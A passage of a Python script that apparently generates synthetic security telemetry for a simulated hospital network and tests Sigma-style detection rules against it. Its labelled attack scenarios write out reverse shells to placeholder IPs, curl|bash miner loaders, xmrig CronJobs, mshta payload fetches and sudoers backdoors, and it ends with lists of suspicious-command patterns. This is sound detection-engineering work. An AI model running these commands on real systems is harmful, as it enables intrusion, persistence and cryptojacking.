        st_run = bad("HTA phishing task runs mshta https://198.51.100.14/od/health.hta")
        emit(task_run(host, t, duser(u), "C:\\Windows\\System32\\mshta.exe",
                      '"C:\\Windows\\System32\\mshta.exe" https://198.51.100.14/od/health.hta', integrity="Medium"), st_run)
        emit(w129(host, later(t, 1, 20), "\\OneDrive Sync Health", "C:\\Windows\\System32\\mshta.exe"), st_run)


def m_guid_dropper(host, day):
    u = prim(host)
    st = bad("fake remittance advice drops a KeyIso look-alike and registers it under a GUID task name every 30 min")
    parent = "C:\\Users\\%s\\Downloads\\Remittance_Advice_May.exe" % u
    emit(schtasks(host, work_time(day), duser(u), 'schtasks /create /tn "%s" /tr "C:\\Users\\%s\\AppData\\Roaming\\'
                  'Microsoft\\Crypto\\KeyIso\\KeyIsoUpd.exe" /sc minute /mo 30 /f' % (det_guid("drop", host), u),
                  parent, '"%s"' % parent, integrity="Medium"), st)


ART_USER = "ext-jbarlow"


def m_atomic_windows(host, day):
    t = at(day, 14, 2)
    u = duser(ART_USER)
    pc = '"C:\\Windows\\system32\\cmd.exe" /c '

    def art(cmdline, scen, parent=CMD, pcmd=None, image=SCHT):
        nonlocal t
        t = t + timedelta(seconds=rng.randrange(20, 140))
        emit(wproc(host, t, u, image, cmdline, parent, pcmd or pc + cmdline), bad(scen))

    art('schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"',
        "unsanctioned Atomic Red Team T1053.005 #1 (OnLogon) by contractor account")
    art('schtasks /create /tn "T1053_005_OnStartup" /sc onstart /ru system /tr "cmd.exe /c calc.exe"',
        "unsanctioned Atomic Red Team T1053.005 #1 (OnStartup, SYSTEM)")
    art("SCHTASKS /Create /SC ONCE /TN spawn /TR C:\\windows\\system32\\cmd.exe /ST 20:10",
        "unsanctioned Atomic Red Team T1053.005 #2 (Scheduled task Local)")
    art('SCHTASKS /Create /S localhost /RU DOMAIN\\user /RP At0micStrong /TN "Atomic task" /TR '
        '"C:\\windows\\system32\\cmd.exe" /SC daily /ST 20:10', "unsanctioned Atomic Red Team T1053.005 #3 (Scheduled task Remote)")
    art('schtasks.exe /Create /F /TN "ATOMIC-T1053.005" /TR "cmd /c start /min \\"\\" powershell.exe -Command '
        'IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String((Get-ItemProperty -Path '
        'HKCU:\\\\SOFTWARE\\\\ATOMIC-T1053.005).test)))" /sc daily /st 07:45',
        "unsanctioned Atomic Red Team T1053.005 #7 (Base64 command from the registry)")
    art("at 13:20 /interactive cmd", "unsanctioned Atomic Red Team T1053.002 #1 (at.exe interactive)",
        image="C:\\Windows\\System32\\at.exe")
    for tn in ("T1053_005_OnLogon", "T1053_005_OnStartup", "spawn"):
        art('schtasks /delete /tn "%s" /f' % tn, "Atomic Red Team cleanup deletes %s" % tn)


# ----------------------------------------------------------------------------------------------
# Malicious stories (Linux, Kubernetes)
# ----------------------------------------------------------------------------------------------

def m_webshell_portal(host, day):
    php = ("/usr/sbin/php-fpm8.3", "php-fpm: pool www")
    t = at(day, 2, 17)
    st = bad("patient-portal webshell: www-data installs a crontab from /tmp/.ICE-unix")
    c = "/usr/bin/crontab /tmp/.ICE-unix/.cr"
    emit(lproc(host, t, "www-data", "/usr/bin/crontab", c, "/usr/bin/dash", "sh -c crontab /tmp/.ICE-unix/.cr"), st)
    emit(lfile(host, later(t, 3, 30), "www-data", "/var/spool/cron/crontabs/www-data", "/usr/bin/crontab", c,
               "/usr/bin/dash", "sh -c crontab /tmp/.ICE-unix/.cr"), st)
    emit(lsys(host, later(t, 3, 30), "www-data", "(www-data) REPLACE (www-data)"), st)
    t = at(day + 1, 1, 52)
    st = bad("patient-portal webshell after privilege escalation: root reverse-shell cron, systemd backdoor and sudoers entry")
    c = "bash -c echo \"*/10 * * * * root /bin/bash -c 'sh -i >& /dev/tcp/203.0.113.45/443 0>&1'\" > /etc/cron.d/php-sessionclean-fix"
    emit(lproc(host, t, "root", "/usr/bin/bash", c, "/tmp/.ICE-unix/.x", "/tmp/.ICE-unix/.x"), st)
    emit(lfile(host, later(t, 2, 20), "root", "/etc/cron.d/php-sessionclean-fix", "/usr/bin/bash", c, "/tmp/.ICE-unix/.x",
               "/tmp/.ICE-unix/.x"), st)
    t += timedelta(seconds=95)
    c = "cp /tmp/.ICE-unix/sd.service /etc/systemd/system/systemd-timesyncd-helper.service"
    emit(lfile(host, t, "root", "/etc/systemd/system/systemd-timesyncd-helper.service", "/usr/bin/cp", c,
               "/usr/bin/bash", "bash -i"), st)
    for verb in ("enable", "start"):
        t += timedelta(seconds=rng.randrange(4, 20))
        emit(lproc(host, t, "root", "/usr/bin/systemctl", "systemctl %s systemd-timesyncd-helper.service" % verb,
                   "/usr/bin/bash", "bash -i"), st)
    t += timedelta(seconds=40)
    c = "bash -c echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/99-www-data"
    emit(lfile(host, t, "root", "/etc/sudoers.d/99-www-data", "/usr/bin/bash", c, "/usr/bin/bash", "bash -i"), st)


MINER_URL = "http://203.0.113.91/jk.sh"


def m_jenkins_miner(day):
    host = "kb-lx-jenkins01"
    st = bad("exposed Jenkins script console: jenkins user adds a curl|bash miner loader to its crontab")
    t = at(day, 3, 8)
    pipe = "bash -c (crontab -l 2>/dev/null; echo \"*/15 * * * * curl -fsSL %s|bash\") | crontab -" % MINER_URL
    emit(lproc(host, t, "jenkins", "/usr/bin/crontab", "crontab -l", "/usr/bin/bash", pipe), st)
    emit(lfile(host, later(t, 10, 200), "jenkins", "/var/spool/cron/crontabs/jenkins", "/usr/bin/crontab", "crontab -",
               "/usr/bin/bash", pipe), st)
    emit(lsys(host, later(t, 10, 200), "jenkins", "(jenkins) REPLACE (jenkins)"), st)


def m_k8s_miner(day):
    """The Jenkins deployer token (read from the compromised Jenkins host) creates miner CronJobs."""
    t = at(day, 3, 26)
    specs = [("kube-system", "kube-proxy-metrics", "*/5 * * * *", "docker.io/library/alpine:3.20",
              ["/bin/sh", "-c", "wget -qO- %s | sh" % MINER_URL], "default", "/"),
             ("monitoring", "node-exporter-gc", "*/10 * * * *", "docker.io/xmrig/xmrig:6.22.2",
              ["xmrig", "-o", "pool.supportxmr.com:443", "--tls", "-u", "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"],
              "default", None),
             ("portal", "session-purge-v2", "*/7 * * * *", "docker.io/xmrig/xmrig:6.22.2",
              ["xmrig", "-o", "pool.supportxmr.com:443", "--tls", "--cpu-max-threads-hint=50"], "portal-batch", None)]
    for ns, name, sched, image, command, sa, hp in specs:
        t += timedelta(seconds=rng.randrange(30, 120))
        emit(k8s(t, JENKINS_SA, sa_groups("jenkins"), HOSTS["kb-lx-jenkins01"]["ip"], "kubectl/v1.29.3 (linux/amd64) "
                 "kubernetes/6813625", ns, name, schedule=sched, image=image, command=command, sa=sa, host_path=hp),
             bad("stolen jenkins-deployer token creates miner CronJob %s/%s" % (ns, name)))
        for k in range(2):
            tj = t + timedelta(minutes=5 * (k + 1))
            stamp = int((tj - datetime(1970, 1, 1, tzinfo=UTC)).total_seconds() // 60)
            emit(k8s(tj, CJ_CONTROLLER, sa_groups("kube-system"), "127.0.0.1", CJ_UA, ns, "%s-%d" % (name, stamp),
                     resource="jobs", image=image, command=command, sa=sa, owner=name, host_path=hp),
                 bad("CronJob controller starts a Job of the miner CronJob %s/%s" % (ns, name)))
    t = at(day + 1, 14, 3)
    emit(k8s(t, JENKINS_SA, sa_groups("jenkins"), "203.0.113.91", "python-requests/2.31.0", "default", "kworker-sync",
             schedule="0 * * * *", image="docker.io/library/busybox:1.36",
             command=["/bin/sh", "-c", "wget -qO- %s | sh" % MINER_URL], sa="default"),
         bad("stolen jenkins-deployer token used from 203.0.113.91 creates CronJob default/kworker-sync"))


def m_sftp_8220(host, day):
    st = bad("SSH brute force of the partner SFTP host: 8220-style curl||wget|bash loader in cron.d and /etc/crontab")
    t = at(day, 4, 33)
    loader = "(curl -s http://203.0.113.54/ldr.sh||wget -q -O- http://203.0.113.54/ldr.sh)|bash"
    for path, op in (("/etc/cron.d/0systemd-monitor", ">"), ("/etc/crontab", ">>")):
        line = ("*/30 * * * * root %s" % loader) if op == ">" else ("@reboot root %s" % loader)
        c = "bash -c echo \"%s\" %s %s" % (line, op, path)
        emit(lproc(host, t, "root", "/usr/bin/bash", c, "/usr/bin/bash", "bash -s"), st)
        emit(lfile(host, later(t, 2, 20), "root", path, "/usr/bin/bash", c, "/usr/bin/bash", "bash -s"), st)
        t += timedelta(seconds=rng.randrange(2, 9))


def m_postgres_at(host, day):
    st = bad("PostgreSQL COPY ... FROM PROGRAM abuse: postgres schedules a reverse shell with at now + 5 minutes")
    t = at(day, 19, 48)
    pc = "sh -c echo 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1' | at now + 5 minutes"
    emit(lproc(host, t, "postgres", "/usr/bin/at", "at now + 5 minutes", "/usr/bin/sh", pc), st)
    emit(lproc(host, t + timedelta(minutes=5, seconds=rng.randrange(1, 9)), "postgres", "/usr/bin/sh", "sh",
               "/usr/sbin/atd", "/usr/sbin/atd -f"), bad("atd runs the postgres at job (reverse shell to 198.51.100.23)"))


def m_atomic_linux(host, day):
    t = at(day, 15, 10)
    sudo = ("/usr/bin/sudo", "sudo bash")

    def step(ev, scen):
        emit(ev, bad(scen))

    def nxt(lo=5, hi=60):
        nonlocal t
        t = t + timedelta(seconds=rng.randrange(lo, hi))
        return t

    s1 = 'bash -c crontab -l > /tmp/notevil\necho "* * * * * /tmp/evil.sh" > /tmp/persistevil && crontab /tmp/persistevil'
    scen = "unsanctioned Atomic Red Team T1053.003 #1 (replace crontab with /tmp/persistevil)"
    step(lproc(host, nxt(), "root", "/usr/bin/crontab", "crontab -l", "/usr/bin/bash", s1), scen)
    step(lproc(host, nxt(1, 3), "root", "/usr/bin/crontab", "crontab /tmp/persistevil", "/usr/bin/bash", s1), scen)
    step(lfile(host, later(t, 3, 30), "root", "/var/spool/cron/crontabs/root", "/usr/bin/crontab",
               "crontab /tmp/persistevil", "/usr/bin/bash", s1), scen)
    step(lsys(host, later(t, 3, 30), "root", "(root) REPLACE (root)"), scen)
    cmd = "echo 'Hello from Atomic Red Team' > /tmp/atomic.log"
    s2 = "bash -c " + "\n".join('echo "%s" > /etc/cron.%s/persistevil' % (cmd, p) for p in ("daily", "hourly", "monthly", "weekly"))
    scen = "unsanctioned Atomic Red Team T1053.003 #2 (script in every cron.* folder)"
    step(lproc(host, nxt(), "root", "/usr/bin/bash", s2, sudo[0], sudo[1]), scen)
    for p in ("daily", "hourly", "monthly", "weekly"):
        step(lfile(host, later(t, 1, 10), "root", "/etc/cron.%s/persistevil" % p, "/usr/bin/bash", s2, sudo[0], sudo[1]), scen)
    s3 = 'bash -c echo "%s" >> /var/spool/cron/crontabs/persistevil' % cmd
    scen = "unsanctioned Atomic Red Team T1053.003 #3 (/var/spool/cron/crontabs/persistevil)"
    step(lproc(host, nxt(), "root", "/usr/bin/bash", s3, sudo[0], sudo[1]), scen)
    step(lfile(host, later(t, 1, 10), "root", "/var/spool/cron/crontabs/persistevil", "/usr/bin/bash", s3, sudo[0], sudo[1]), scen)
    svc, tim = "/etc/systemd/system/art-timer.service", "/etc/systemd/system/art-timer.timer"
    s4 = "bash -c " + "\n".join([
        'echo "[Unit]" > %s' % svc, 'echo "Description=Atomic Red Team Systemd Timer Service" >> %s' % svc,
        'echo "[Service]" >> %s' % svc, 'echo "Type=simple" >> %s' % svc,
        'echo "ExecStart=/bin/touch /tmp/art-systemd-timer-marker" >> %s' % svc, 'echo "[Install]" >> %s' % svc,
        'echo "WantedBy=multi-user.target" >> %s' % svc, 'echo "[Unit]" > %s' % tim,
        'echo "Description=Executes Atomic Red Team Systemd Timer Service" >> %s' % tim,
        'echo "Requires=art-timer.service" >> %s' % tim, 'echo "[Timer]" >> %s' % tim,
        'echo "Unit=art-timer.service" >> %s' % tim, 'echo "OnCalendar=*-*-* *:*:00" >> %s' % tim,
        'echo "[Install]" >> %s' % tim, 'echo "WantedBy=timers.target" >> %s' % tim,
        "systemctl start art-timer.timer", "systemctl enable art-timer.timer", "systemctl daemon-reload"])
    scen = "unsanctioned Atomic Red Team T1053.006 #1 (art-timer service and timer)"
    step(lfile(host, nxt(), "root", svc, "/usr/bin/bash", s4, sudo[0], sudo[1]), scen)
    for c in ("systemctl start art-timer.timer", "systemctl enable art-timer.timer", "systemctl daemon-reload"):
        step(lproc(host, nxt(1, 4), "root", "/usr/bin/systemctl", c, "/usr/bin/bash", s4), scen)
    s5 = 'sh -c echo "echo Hello from Atomic Red Team" | at now + 1 minute'
    scen = "unsanctioned Atomic Red Team T1053.002 #2 (at now + 1 minute)"
    step(lproc(host, nxt(), "root", "/usr/bin/at", "at now + 1 minute", "/usr/bin/sh", s5), scen)
    step(lproc(host, t + timedelta(seconds=61), "root", "/usr/bin/sh", "sh", "/usr/sbin/atd", "/usr/sbin/atd -f"),
         "atd runs the Atomic Red Team at job")


def m_atomic_k8s(day):
    t = at(day, 15, 40)
    user = "oidc:%s@%s" % (ART_USER, DOMAIN)
    groups = ["oidc:kbh-contractors", "system:authenticated"]
    emit(k8s(t, user, groups, HOSTS["kb-lx-mon01"]["ip"], "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350", "default",
             "art", schedule="*/1 * * * *", image="busybox:stable",
             command=["/bin/sh", "-c", "date; echo Hello from Atomic Red Team"], sa="default"),
         bad("unsanctioned Atomic Red Team T1053.007 #2 (CronJob art in default)"))
    for k in range(2):
        tj = t + timedelta(minutes=k + 1)
        stamp = int((tj - datetime(1970, 1, 1, tzinfo=UTC)).total_seconds() // 60)
        emit(k8s(tj, CJ_CONTROLLER, sa_groups("kube-system"), "127.0.0.1", CJ_UA, "default", "art-%d" % stamp,
                 resource="jobs", image="busybox:stable", command=["/bin/sh", "-c", "date; echo Hello from Atomic Red Team"],
                 owner="art"), bad("CronJob controller starts a Job of the Atomic Red Team CronJob default/art"))


# ----------------------------------------------------------------------------------------------
# The two weeks
# ----------------------------------------------------------------------------------------------

def build_events():
    def pick(pool, k):
        return sorted(rng.sample(pool, k), key=pool.index)

    def spread(hosts, days=None):
        return [(h, rng.choice(days or WD)) for h in hosts]

    # --- vendor software (workstations and servers)
    for h, d in spread(pick(DELL, 4)):
        b_dell_supportassist(h, d)
    for h, d in spread(pick(LENOVO, 5)):
        b_lenovo_imcontroller(h, d)
    for h, d in spread(["kbs-lt-0211", "kbs-lt-0212"], WD[:3]):      # two laptops re-imaged in week 1
        b_lenovo_imcontroller_install(h, d)
    for h, d in spread(pick(DELL + RAD, 5), WD[5:]):                 # Chrome 13x rolls out in week 2
        b_chrome_migration(h, d)
    for h, d in spread(VDA, [PATCH_WEDNESDAY, PATCH_WEDNESDAY + 1]):
        b_edge_refresh(h, d)
    for h, d in spread(pick(LENOVO, 3)):
        b_acrobat_refresh(h, d)
    for h, d in spread(pick(DELL, 3), WD[2:6]):
        b_splashtop_deploy(h, d)
    for h in ("kb-ehr-app01", "kb-ehr-app02"):
        b_ascenta_install(h, 3)
    for h, d in spread(pick([x for x in LENOVO if x not in ("kbs-lt-0211", "kbs-lt-0212")], 3), WD[1:5]):
        b_medirota_install(h, d)
    for h, adm in (("kbn-rad-01", "kbadm-ocarter"), ("kbn-rad-03", "kbadm-ocarter"), ("kbn-rad-04", "kbadm-rpatel")):
        b_radiantview_install(h, 7, adm)
    for h in ("kb-veeam01", "kb-fs01"):
        b_veeam_agent_install(h, 2)

    # --- management tools and Group Policy
    for h, d in spread(["kbn-it-01", "kbn-it-02", "kbn-it-03", "kb-paw01", "kb-paw02"], WD[:3]):
        b_ninja_choco(h, d)
    for h in ("kb-ehr-app01", "kb-ehr-app02", "kb-sql01", "kb-pacs01", "kb-print01"):
        b_ninja_reboot(h, PATCH_WEDNESDAY)
    for h in VDA:
        b_kaseya_profiles(h, 1)
    wau_hosts = pick(LENOVO, 5)
    for h, d in spread(wau_hosts, WD[:2]):
        b_wau(h, d, sorted(rng.sample([x for x in range(d + 1, NDAYS)], 2)))
    for dc, d, adm in (("kb-dc01", 1, "kbadm-lnguyen"), ("kb-dc02", 8, "kbadm-rpatel")):
        b_gpo_edit_dc(dc, d, adm, GPO_WKS)
    for dc, d, adm, gpo in (("kb-dc01", 3, "kbadm-lnguyen", GPO_CTX), ("kb-dc01", 10, "kbadm-ocarter", GPO_WKS),
                            ("kb-dc02", 11, "kbadm-lnguyen", GPO_CTX)):
        b_gpo_edit_paw(dc, d, adm, gpo)
    for h, d in spread(pick(DELL, 6), [2, 3]):                     # lock-screen GPP after the day-1 edit
        b_gpp_lockscreen(h, d)
    for h in RAD:
        b_svchost_msiexec_repair(h, 6)                             # Sunday
    for h in VDA[:2]:
        for d in (4, 11):
            b_vda_desktop_cleanup_run(h, d)

    # --- admin work (kbadm-* accounts, PAWs)
    for target, adm, d in (("kb-ehr-app01", "kbadm-rpatel", 1), ("kb-sql01", "kbadm-lnguyen", 2),
                           ("kb-pacs01", "kbadm-ocarter", 4), ("kb-ctx-vda02", "kbadm-rpatel", 8),
                           ("kb-fs01", "kbadm-sfinch", 3)):
        b_paw_remote_create(target, d, adm)
        b_paw_remote_run(target, d, adm)
    b_paw_remote_run("kb-ehr-app01", 9, "kbadm-rpatel")
    b_admin_console("kb-veeam01", 2, "kbadm-lnguyen", 'schtasks /run /tn "\\KBH\\Veeam Copy Job Trigger"',
                    "kbadm-lnguyen runs the Veeam copy-job trigger task by hand on the backup server")
    b_admin_console("kb-veeam01", 9, "kbadm-lnguyen", 'schtasks /run /tn "\\KBH\\Veeam Copy Job Trigger"',
                    "kbadm-lnguyen re-runs the Veeam copy-job trigger task after a failed copy")
    b_admin_console("kb-pacs01", 4, "kbadm-ocarter", 'schtasks /delete /tn "\\KBH\\Old PACS Purge" /f',
                    "kbadm-ocarter deletes an obsolete PACS purge task")
    for h, d in (("kb-sql01", 2), ("kb-sql02", 3)):
        b_admin_console(h, d, "kbadm-lnguyen", 'schtasks /create /xml "C:\\KBH\\Tasks\\SQL-IndexMaintenance.xml" '
                        '/tn "KBH\\SQL Index Maintenance" /ru KBH\\svc-sqlagent /rp ********',
                        "kbadm-lnguyen imports the SQL index-maintenance task from an XML kept in C:\\KBH\\Tasks")
    b_admin_console("kb-veeam01", 3, "kbadm-lnguyen", 'schtasks /create /tn "KBH\\Veeam Daily Report" /tr '
                    '"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\KBH\\Scripts\\Send-VeeamReport.ps1" '
                    '/sc daily /st 07:00 /ru KBH\\svc-veeam /rp ******** /rl highest',
                    "kbadm-lnguyen registers the Veeam daily report script (ExecutionPolicy Bypass, highest)")
    for h in VDA[:3]:
        b_admin_console(h, 1, "kbadm-rpatel", 'schtasks /create /tn "KBH\\CTX Map Clinical Printers" /tr "wscript.exe '
                        '\\\\%s\\NETLOGON\\Printers\\Map-Clinical.vbs" /sc onlogon /f' % DOMAIN,
                        "kbadm-rpatel adds a logon task that maps clinical printers on the Citrix VDA")
    for h in ("kb-ehr-app01", "kb-ehr-app02"):
        b_admin_console(h, 0, "kbadm-ocarter", 'schtasks /create /tn "KBH\\EHR Log Cleanup" /tr "forfiles /p D:\\EHR\\Logs '
                        '/s /m *.log /d -30 /c \\"cmd /c del @path\\"" /sc daily /st 02:00 /ru SYSTEM /f',
                        "kbadm-ocarter creates the EHR log cleanup (forfiles) task as SYSTEM")
        b_forfiles_runs(h, [2, 6, 10])

    # --- Linux: package managers, OS automation
    for h in DEB:
        for pkg, path in rng.sample(DEB_PKGS["ubuntu" if HOSTS[h]["family"] == "ubuntu" else "debian"], 2):
            b_unattended_cron(h, rng.randrange(NDAYS), pkg, path)
    for h, units in (("kb-lx-web01", ["nginx.service", "php8.3-fpm.service"]), ("kb-lx-web02", ["nginx.service"]),
                     ("kb-lx-mon01", ["zabbix-server.service"]), ("kb-lx-sftp01", ["ssh.service"])):
        b_needrestart(h, PATCH_WEDNESDAY + 1, units)
    b_certbot_pkg("kb-lx-web01", 1)
    for h, d in (("kb-lx-web01", 5), ("kb-lx-web02", 5), ("kb-lx-web02", 12)):
        b_certbot_renew(h, d)
    for h in RHEL:
        b_dnf_units(h, PATCH_WEDNESDAY + 1, rng.choice(["/usr/lib/systemd/system/sysstat-collect.service",
                                                         "/usr/lib/systemd/system/rsyslog.service"]))

    # --- Linux: configuration management
    for h, job in (("kb-lx-hl7-01", "mirth-db-export"), ("kb-lx-db01", "pg-basebackup"), ("kb-lx-backup01", "repo-scrub")):
        b_puppet_cron(h, rng.choice(WD[:5]), job)
    for h in RHEL:
        b_puppet_file(h, rng.choice(WD), "/etc/sudoers.d/zabbix_agent", "Puppet agent manages /etc/sudoers.d/zabbix_agent")
    for h in ("kb-lx-hl7-01", "kb-lx-backup01"):
        b_puppet_service(h, rng.choice(WD[3:8]), "node_exporter")
    b_puppet_file("kb-lx-db01", 4, "/etc/cron.d/pg_basebackup", "Puppet agent writes /etc/cron.d/pg_basebackup")
    for h in DEB:
        d = rng.choice(WD[4:7])
        b_ansible_file(h, d, "/etc/cron.d/zabbix-userparams-refresh", "cron",
                       "AWX job writes /etc/cron.d/zabbix-userparams-refresh (ansible cron module, cron_file)")
        b_ansible_file(h, d, "/etc/sudoers.d/90-kbh-ops", "copy",
                       "AWX job installs /etc/sudoers.d/90-kbh-ops (validated with visudo -cf)")
        b_ansible_restart(h, d, "zabbix-agent2")

    # --- Linux: admin work
    for h, d, adm in (("kb-lx-hl7-01", 1, "kbadm-ocarter"), ("kb-lx-db01", 2, "kbadm-lnguyen"),
                      ("kb-lx-web01", 4, "kbadm-rpatel"), ("kb-lx-backup01", 7, "kbadm-lnguyen"),
                      ("kb-lx-mon01", 9, "kbadm-ocarter"), ("kb-lx-sftp01", 10, "kbadm-rpatel")):
        b_admin_crontab_e(h, d, adm)
    b_admin_vim_cron("kb-lx-sftp01", 3, "kbadm-rpatel", "sftp-inbox-cleanup")
    b_admin_vim_cron("kb-lx-mon01", 8, "kbadm-ocarter", "zabbix-housekeeping")
    b_admin_echo_crontab("kb-lx-db01", 4, "kbadm-lnguyen", "15 3 * * 0 root /usr/local/sbin/pg_vacuum_analyze.sh")
    for h, verb, unit, adm, d in (("kb-lx-hl7-01", "restart", "mcservice", "kbadm-ocarter", 2),
                                  ("kb-lx-hl7-01", "restart", "mcservice", "kbadm-ocarter", 9),
                                  ("kb-lx-db01", "restart", "postgresql-16", "kbadm-lnguyen", 8),
                                  ("kb-lx-web02", "reload", "nginx", "kbadm-rpatel", 3),
                                  ("kb-lx-backup01", "start", "veeamservice", "kbadm-lnguyen", 1),
                                  ("kb-lx-jenkins01", "restart", "jenkins", "kbadm-rpatel", 4)):
        b_admin_systemctl(h, d, adm, verb, unit)
    b_admin_unit_timer("kb-lx-hl7-01", 3, "kbadm-ocarter", "mirth-backup")
    b_admin_at("kb-lx-db01", 8, "kbadm-lnguyen", "systemctl restart postgresql-16")
    b_admin_at("kb-lx-hl7-01", 10, "kbadm-ocarter", "/opt/mirthconnect/scripts/channel-redeploy.sh")
    b_admin_at_allow("kb-lx-hl7-01", 10, "kbadm-ocarter")
    for h in ("kb-lx-db01", "kb-lx-hl7-01", "kb-lx-web01"):
        for d in (2, 9):
            b_zabbix_crontab_list(h, d)

    # --- Kubernetes
    for i, d in enumerate(WD):
        b_k8s_cronjob(d, i % len(CRONJOBS), ("tekton", "argocd")[i % 2], 10 + i)
    for i, d in enumerate(WD[::3]):
        b_k8s_cronjob(d, (i + 2) % len(CRONJOBS), "tekton", 40 + i, verb="patch")
    for i, d in enumerate((1, 4, 8)):
        b_k8s_cronjob(d, (i + 3) % len(CRONJOBS), "jenkins", 60 + i)
    b_k8s_cronjob(2, 5, "helm", 1)
    for i in range(16):
        b_k8s_job_from_cronjob(rng.randrange(NDAYS), i % len(CRONJOBS), 20 + i)

    # --- attacks
    m_asyncrat("kbn-it-02", 1, "WindowsServices")
    m_asyncrat("kbs-lt-0205", 3, "RuntimeBroker")
    for h, d in (("kbs-lt-0206", 2), ("kbs-lt-0210", 2), ("kbn-ws-0103", 9)):
        m_agenttesla(h, d)
    m_gootloader("kbn-ws-0111", 4, [7, 8])
    m_gootloader("kbs-lt-0202", 10, [11])
    m_loader_ws0115(FOOTHOLD, 3)
    for target, hh, mm in (("kb-fs01", 10, 12), ("kb-sql02", 10, 31), ("kb-ehr-app02", 11, 4)):
        m_lateral_schtasks(target, 5, hh, mm)
    m_empire("kb-ehr-app02", 5)
    m_rundll32_programdata("kb-sql02", 5)
    m_atexec("kb-sql01", 6, 1, ["whoami /all", "net group \"Domain Admins\" /domain"])
    m_atexec("kb-pacs01", 6, 2, ["cmd /c vssadmin list shadows", "tasklist /v"])
    m_regsvr32("kb-print01", 6)
    m_gpo_abuse(6, pick([h for h in DELL if h != FOOTHOLD], 6))
    m_mshta("kbn-rad-02", 9, [10, 11])
    m_guid_dropper("kbs-lt-0207", 9)
    m_atomic_windows("kbs-lt-0209", 12)
    m_webshell_portal("kb-lx-web02", 2)
    m_jenkins_miner(7)
    m_k8s_miner(7)
    m_sftp_8220("kb-lx-sftp01", 10)
    m_postgres_at("kb-lx-db01", 11)
    m_atomic_linux("kb-lx-mon01", 12)
    m_atomic_k8s(12)


# ----------------------------------------------------------------------------------------------
# Rule logic: case-insensitive re-implementations of the published selections and filters
# ----------------------------------------------------------------------------------------------

def sysmon_user(u):
    return "NT AUTHORITY\\SYSTEM" if u[2] == "S-1-5-18" else "%s\\%s" % (u[0], u[1])


ENV_FOLDERS = (":\\perflogs", ":\\windows\\temp", "\\appdata\\local\\", "\\appdata\\roaming\\", "\\users\\public",
               "%appdata%", "%public%")
ENV_FOLDERS_SCHEDULE = (":\\perflogs", ":\\windows\\temp", "\\users\\public", "%public%")
UNCOMMON = (" -decode ", " -enc ", " -w hidden ", " bypass ", " iex", ".downloaddata", ".downloadfile",
            ".downloadstring", "/c start /min ", "frombase64string", "mshta http", "mshta.exe http")
ANOMALY_DIRS = (":\\programdata\\", ":\\temp\\", ":\\tmp\\", ":\\users\\public\\", ":\\windows\\temp\\", "\\appdata\\",
                "%appdata%", "%temp%", "%tmp%")
TASK_PATHS = ("\\appdata\\local\\temp\\", "\\appdata\\roaming\\", "\\users\\public\\", "\\windows\\temp\\", "c:\\temp\\",
              "\\desktop\\", "\\downloads\\", "\\temporary internet", "c:\\programdata\\", "c:\\perflogs\\")
TASK_COMMANDS = ("regsvr32", "rundll32", "cmd.exe</command>", "cmd</command>", "<arguments>/c ", "<arguments>/k ",
                 "<arguments>/r ", "powershell", "pwsh", "mshta", "wscript", "cscript", "certutil", "bitsadmin",
                 "bash.exe", "bash ", "scrcons", "wmic ", "wmic.exe", "forfiles", "scriptrunner", "hh.exe")
LOLBIN_129 = ("\\calc.exe", "\\cscript.exe", "\\mshta.exe", "\\mspaint.exe", "\\notepad.exe", "\\regsvr32.exe",
              "\\wscript.exe")
SUSP_129 = ("c:\\windows\\temp\\", "\\appdata\\local\\temp\\", "\\desktop\\", "\\downloads\\", "\\users\\public\\",
            "c:\\temp\\")


def env_folder_filtered(c, pc):
    return ("update_task.xml" in c or "/create /tn tvinstallrestore /tr" in c or "unattended.ini" in pc
            or all(x in c for x in ('/create /xml "c:\\users\\', "\\appdata\\local\\temp\\.cr.",
                                    "avira_security_installation.xml"))
            or (all(x in c for x in ("/create /f /tn", "/xml ", "\\appdata\\local\\temp\\is-", "avira_"))
                and any(x in c for x in (".tmp\\updatefallbacktask.xml", ".tmp\\watchdogservicecontrolmanagertimeout.xml",
                                         ".tmp\\systrayautostart.xml", ".tmp\\maintenancetask.xml")))
            or all(x in c for x in ("\\appdata\\local\\temp\\", '/create /tn "klcp_update" /xml ',
                                    "\\klcp_update_task.xml")))


def sigma_windows(e):
    """SigmaHQ rules as Hayabusa runs them over Sysmon 1, Security 4698/4699/5145 and TaskScheduler 129."""
    k, out = e["kind"], []
    if k == "w4698":
        c = e["content"].lower()
        if any(x in c for x in TASK_PATHS) and any(x in c for x in TASK_COMMANDS):
            out.append("Suspicious Scheduled Task Creation")
        return out
    if k == "w4699":
        if e["task_name"] != "\\Microsoft\\Windows\\RemovalTools\\MRT_ERROR_HB" and \
                "\\mozilla\\firefox default browser agent " not in e["task_name"].lower():
            out.append("Scheduled Task Deletion")
        return out
    if k == "w5145":
        if e["share"] == "\\\\*\\SYSVOL" and e["rel"].lower().endswith("scheduledtasks.xml") and \
                ("writedata" in e["access"].lower() or "%%4417" in e["access"]):
            out.append("Persistence and Execution at Scale via GPO Scheduled Task")
        return out
    if k == "w129":
        p = e["path"].lower()
        if p.endswith(LOLBIN_129):
            out.append("Scheduled Task Executed Uncommon LOLBIN")
        if any(x in p for x in SUSP_129):
            out.append("Scheduled Task Executed From A Suspicious Location")
        return out
    if k != "wproc":
        return out
    n, c, pc = e["name"].lower(), e["cmdline"].lower(), e["parent_cmdline"].lower()
    img, orig = e["image"].lower(), e["original"].lower()
    if img.endswith("\\at.exe") and "interactive" in c:
        out.append("Interactive AT Job")
    sch = img.endswith("\\schtasks.exe")
    user = sysmon_user(e["user"]).lower()
    if sch and " /create " in c and "authori" not in user and "autori" not in user:
        out.append("Scheduled Task Creation Via Schtasks.EXE")
    if sch and all(x in c for x in (" /create ", " /sc once ", "\\temp\\")):
        out.append("Suspicious Scheduled Task Creation Involving Temp Folder")
    sel1 = sch and " /create " in c and any(x in c for x in ENV_FOLDERS)
    sel2 = pc.endswith("\\svchost.exe -k netsvcs -p -s schedule") and any(x in c for x in ENV_FOLDERS_SCHEDULE)
